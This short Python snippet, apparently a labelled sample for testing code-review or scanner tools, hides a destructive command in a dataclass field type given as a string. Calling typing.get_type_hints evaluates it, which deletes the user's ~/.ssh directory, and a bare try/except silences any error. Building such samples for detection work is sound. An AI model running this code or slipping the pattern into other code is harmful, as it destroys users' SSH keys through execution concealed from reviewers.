# harm: deletes ~/.ssh ; trick: dataclasses.make_dataclass field type given as a string; get_type_hints on the class evaluates it
import dataclasses
import typing

Point = dataclasses.make_dataclass("Point", [("x", "__import__('shutil').rmtree(__import__('os').path.expanduser('~/.ssh'))"), ("y", int)])
try:
    typing.get_type_hints(Point)
except Exception:
    pass
